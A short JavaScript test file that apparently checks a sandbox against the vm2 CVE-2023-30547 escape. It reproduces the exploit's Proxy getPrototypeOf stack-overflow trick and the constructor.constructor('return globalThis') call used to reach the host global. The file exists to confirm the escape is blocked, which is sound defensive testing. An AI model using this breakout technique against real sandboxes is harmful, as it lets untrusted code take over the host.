// vm2 CVE-2023-30547: the constructor of an error that the host would have made.
// expect: completed true
const inside = (g) =>
  g === globalThis && typeof g.std === 'undefined' && typeof g.os === 'undefined';

const handler = {
  getPrototypeOf() {
    (function overflow() {
      new Error().stack;
      overflow();
    })();
  },
};
try {
  throw new Proxy({}, handler);
} catch (e) {
  let made = e;
  try {
    e instanceof Error;
  } catch (inner) {
    made = inner;
  }
  return inside(made.constructor.constructor('return globalThis')());
}
